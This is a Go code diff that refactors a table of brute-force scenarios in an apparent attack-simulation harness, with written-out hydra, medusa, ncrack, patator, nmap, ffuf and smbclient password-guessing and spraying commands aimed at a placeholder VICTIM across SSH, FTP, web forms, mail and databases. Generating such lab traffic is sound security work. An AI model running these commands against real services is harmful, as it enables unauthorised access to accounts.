@@ -13,38 +13,40 @@ import (
 // bruteForces: four tools against the services that people log in to. The lists
 // hold too few words to run long, and half of them end with the right one.
 func bruteForces() []Scenario {
-	web := []attack.Class{attack.WebAttack}
-	row := func(name, service, line string, also []attack.Class) Scenario {
-		return Scenario{Name: name, Class: attack.BruteForce, Also: also, Limit: 50 * time.Second, Play: func(ctx context.Context, r *Run) error {
-			return guess(ctx, r, service, line)
-		}}
-	}
+	const web = attack.WebAttack
 	const form = `"/login:user=^USER^&password=^PASS^:Wrong"`
 	return []Scenario{
-		row("hydra-ssh", "ssh", "hydra -I -t TASKS -l USER -P WORDS ssh://VICTIM", nil),
-		row("medusa-ssh", "ssh", "medusa -h VICTIM -u USER -P WORDS -M ssh -t TASKS", nil),
-		row("ncrack-ssh", "ssh", "ncrack -v --user USER -P WORDS -T 4 VICTIM:22", nil),
-		row("patator-ssh", "ssh", "patator ssh_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS", nil),
-		row("nmap-ssh", "ssh", "nmap -n -Pn -p 22 --script ssh-brute --script-args 'userdb=NAMES,passdb=WORDS,brute.threads=TASKS' VICTIM", []attack.Class{attack.PortScan}),
-		row("slow-ssh", "ssh", "hydra -I -t 1 -W 2 -l USER -P WORDS ssh://VICTIM", nil),
-		row("spray-ssh", "ssh", "hydra -I -t TASKS -L NAMES -p Welcome1 ssh://VICTIM", nil),
-		row("hydra-ftp", "ftp", "hydra -I -t TASKS -l USER -P WORDS ftp://VICTIM", nil),
-		row("medusa-ftp", "ftp", "medusa -h VICTIM -u USER -P WORDS -M ftp -t TASKS", nil),
-		row("ncrack-ftp", "ftp", "ncrack --user USER -P WORDS VICTIM:21", nil),
-		row("patator-ftp", "ftp", "patator ftp_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS", nil),
-		row("hydra-form", "web", "hydra -I -t TASKS -l USER -P WORDS VICTIM http-post-form "+form, web),
-		row("hydra-get", "web", "hydra -I -t TASKS -l USER -P WORDS VICTIM http-get-form "+form, web),
-		row("patator-form", "web", "patator http_fuzz resolve=VICTIM:VICTIM url=http://VICTIM/login method=POST body='user=USER&password=FILE0' 0=WORDS -t TASKS", web),
-		row("ffuf-form", "web", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/login -X POST -H 'Content-Type: application/x-www-form-urlencoded' -d 'user=USER&password=FUZZ' -fr Wrong", web),
-		row("hydra-imap", "mail", "hydra -I -t TASKS -l USER -P WORDS imap://VICTIM", nil),
-		row("hydra-pop3", "mail", "hydra -I -t TASKS -l USER -P WORDS pop3://VICTIM", nil),
-		row("hydra-telnet", "telnet", "hydra -I -t TASKS -l USER -P WORDS telnet://VICTIM", nil),
-		row("hydra-mysql", "mariadb", "hydra -I -t 4 -l app -P WORDS mysql://VICTIM", nil),
-		row("patator-mysql", "mariadb", "patator mysql_login host=VICTIM user=app password=FILE0 0=WORDS -t TASKS", nil),
-		row("hydra-postgres", "postgres", "hydra -I -t TASKS -l postgres -P WORDS postgres://VICTIM", nil),
-		row("smb-passwords", "smb", "while read p; do smbclient -t 3 -U USER%$p //VICTIM/files -c quit; done < WORDS", nil),
-		row("hydra-redis", "redis", "hydra -I -t TASKS -P WORDS redis://VICTIM", nil),
+		guessing("hydra-ssh", "ssh", "hydra -I -t TASKS -l USER -P WORDS ssh://VICTIM"),
+		guessing("medusa-ssh", "ssh", "medusa -h VICTIM -u USER -P WORDS -M ssh -t TASKS"),
+		guessing("ncrack-ssh", "ssh", "ncrack -v --user USER -P WORDS -T 4 VICTIM:22"),
+		guessing("patator-ssh", "ssh", "patator ssh_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS"),
+		guessing("nmap-ssh", "ssh", "nmap -n -Pn -p 22 --script ssh-brute --script-args 'userdb=NAMES,passdb=WORDS,brute.threads=TASKS' VICTIM", attack.PortScan),
+		guessing("slow-ssh", "ssh", "hydra -I -t 1 -W 2 -l USER -P WORDS ssh://VICTIM"),
+		guessing("spray-ssh", "ssh", "hydra -I -t TASKS -L NAMES -p Welcome1 ssh://VICTIM"),
+		guessing("hydra-ftp", "ftp", "hydra -I -t TASKS -l USER -P WORDS ftp://VICTIM"),
+		guessing("medusa-ftp", "ftp", "medusa -h VICTIM -u USER -P WORDS -M ftp -t TASKS"),
+		guessing("ncrack-ftp", "ftp", "ncrack --user USER -P WORDS VICTIM:21"),
+		guessing("patator-ftp", "ftp", "patator ftp_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS"),
+		guessing("hydra-form", "web", "hydra -I -t TASKS -l USER -P WORDS VICTIM http-post-form "+form, web),
+		guessing("hydra-get", "web", "hydra -I -t TASKS -l USER -P WORDS VICTIM http-get-form "+form, web),
+		guessing("patator-form", "web", "patator http_fuzz resolve=VICTIM:VICTIM url=http://VICTIM/login method=POST body='user=USER&password=FILE0' 0=WORDS -t TASKS", web),
+		guessing("ffuf-form", "web", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/login -X POST -H 'Content-Type: application/x-www-form-urlencoded' -d 'user=USER&password=FUZZ' -fr Wrong", web),
+		guessing("hydra-imap", "mail", "hydra -I -t TASKS -l USER -P WORDS imap://VICTIM"),
+		guessing("hydra-pop3", "mail", "hydra -I -t TASKS -l USER -P WORDS pop3://VICTIM"),
+		guessing("hydra-telnet", "telnet", "hydra -I -t TASKS -l USER -P WORDS telnet://VICTIM"),
+		guessing("hydra-mysql", "mariadb", "hydra -I -t 4 -l app -P WORDS mysql://VICTIM"),
+		guessing("patator-mysql", "mariadb", "patator mysql_login host=VICTIM user=app password=FILE0 0=WORDS -t TASKS"),
+		guessing("hydra-postgres", "postgres", "hydra -I -t TASKS -l postgres -P WORDS postgres://VICTIM"),
+		guessing("smb-passwords", "smb", "while read p; do smbclient -t 3 -U USER%$p //VICTIM/files -c quit; done < WORDS"),
+		guessing("hydra-redis", "redis", "hydra -I -t TASKS -P WORDS redis://VICTIM"),
 	}
+}
+
+// guessing is guesses at a service by a line of the table.
+func guessing(name, service, line string, also ...attack.Class) Scenario {
+	return family{class: attack.BruteForce, limit: 50 * time.Second, play: func(ctx context.Context, r *Run, line string) error {
+		return guess(ctx, r, service, line)
+	}}.row(name, line, also...)
 }
 
 // guess starts the service and plays a line of the table against it.
